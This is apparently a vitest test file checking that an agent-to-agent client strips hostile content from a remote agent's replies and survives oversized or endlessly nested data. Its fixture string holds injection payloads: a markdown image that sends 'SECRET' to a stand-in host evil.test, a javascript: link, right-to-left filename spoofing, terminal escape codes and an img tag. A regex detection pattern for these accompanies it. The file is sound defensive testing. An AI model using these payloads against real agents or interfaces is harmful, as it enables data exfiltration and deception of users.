import { type Response, validateResponse } from "@constellation/core";
import { testContext } from "@constellation/testing";
import { afterEach, describe, expect, it } from "vitest";
import { cardOf, said, serveAgent, task, tasks } from "../../test/agents.js";
import { createA2ALibrarian } from "./a2a-librarian.js";

/** What a remote system may try: to act on a terminal, to hide, to load, to be followed, to be run. */
const hostile =
  "\u001b[2J\u001b]0;title\u0007 ![x](http://evil.test/?q=SECRET) [click](javascript:alert) \u202egnp.exe\u202c zero\u200bwidth line\u2028separator <img src=x> ![y][z]\n\n[z]: http://evil.test/";

/** What of it must not be left anywhere. */
const active =
  /\p{Cc}(?<!\n)|[\u200b\u202a-\u202e\u2028\u2029]|!\[[^\]]*\](?=[(:[])|(?<!\\)\](?=[(:])|javascript:|(?<!\\)<img/u;

function textsIn(value: unknown): readonly string[] {
  if (typeof value === "string") return [value];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([key, held]) => [key, ...textsIn(held)]);
}

function expectHarmless(value: unknown): void {
  const texts = textsIn(value);
  expect(texts.join("")).toContain("separator"); // the hostile text came through, made harmless
  for (const text of texts) expect(text).not.toMatch(active);
}

const cleanUp: (() => Promise<void>)[] = [];

afterEach(async () => {
  for (const each of cleanUp.splice(0)) await each();
});

async function ask(
  reply: Parameters<typeof serveAgent>[0],
  context = testContext(),
): Promise<Response> {
  const server = await serveAgent(reply, (url) => ({ ...cardOf(url), name: hostile }));
  cleanUp.push(server.close);
  const { librarian } = createA2ALibrarian({ id: "travel", url: server.url, pollMs: 1 });
  return librarian("trains", context);
}

const completed = (parts: readonly object[]) =>
  tasks(task("COMPLETED", { artifacts: [{ artifactId: "a", parts }] }));

describe("createA2ALibrarian, asking a hostile agent", () => {
  it("takes everything active out of its answer, names, sources and data", async () => {
    const response = await ask(
      completed([
        { text: hostile },
        { url: "javascript:alert(1)", filename: hostile },
        { url: "https://user:secret@evil.test/", filename: "report.pdf" },
        {
          data: {
            confidence: 1,
            sources: [{ name: hostile, url: "javascript:alert(1)", type: hostile }],
            nested: [{ [hostile]: hostile }],
          },
        },
      ]),
    );

    expectHarmless(response);
    expect(response.sources?.map(({ url }) => url)).toEqual(
      Array.from({ length: 4 }, () => undefined),
    );
  });

  it("takes everything active out of what it says of an error", async () => {
    const failed = (parts: readonly object[]) =>
      tasks(
        task("FAILED", { status: { state: "TASK_STATE_FAILED", message: { ...said(""), parts } } }),
      );
    const error = { code: "NOT_FOUND", message: hostile, suggestion: hostile, reason: hostile };

    expectHarmless(await ask(failed([{ text: hostile }])));
    expectHarmless(await ask(failed([{ data: { error } }])));
  });

  it("takes everything active out of its progress", async () => {
    const working = { state: "TASK_STATE_WORKING", message: said(hostile) };
    const context = testContext();

    await ask(
      tasks(
        task("WORKING", { status: working }),
        task("COMPLETED", { artifacts: [{ artifactId: "a", parts: [{ text: "found" }] }] }),
      ),
      context,
    );

    expectHarmless(context.reported);
  });

  it("cuts data that is too deep or too much, and says that the answer is partial", async () => {
    const deep = JSON.parse(`${'{"a":'.repeat(500)}1${"}".repeat(500)}`) as object;
    const response = await ask(
      completed([
        { text: "found" },
        { data: { deep, many: Array.from({ length: 20_000 }, () => 1) } },
      ]),
    );

    expect(response).toMatchObject({ answer: "found", partial: true });
    expect(JSON.stringify(response).length).toBeLessThan(50_000);
    expect(validateResponse(response).valid).toBe(true);
  });

  it("stays upright when a reply is nested without end", async () => {
    const endless = `${"[".repeat(200_000)}${"]".repeat(200_000)}`;
    const response = await ask(
      ({ id }) =>
        new Response(
          `{"jsonrpc":"2.0","id":${id},"result":{"message":{"messageId":"m","role":"ROLE_AGENT","parts":[{"data":{"endless":${endless}}}]}}}`,
          { headers: { "content-type": "application/json" } },
        ),
    );

    expect(response.partial).toBe(true);
    expect(JSON.stringify(response).length).toBeLessThan(10_000);
  });

  it("ends with TIMEOUT when the reason of the abort cannot be looked at", async () => {
    const { proxy, revoke } = Proxy.revocable({}, {});
    revoke();
    const caller = new AbortController();
    const response = ask(tasks(task("WORKING")), testContext({ signal: caller.signal }));

    caller.abort(proxy);

    expect((await response).error).toMatchObject({
      code: "TIMEOUT",
      details: { reason: "cancelled" },
    });
  });
});
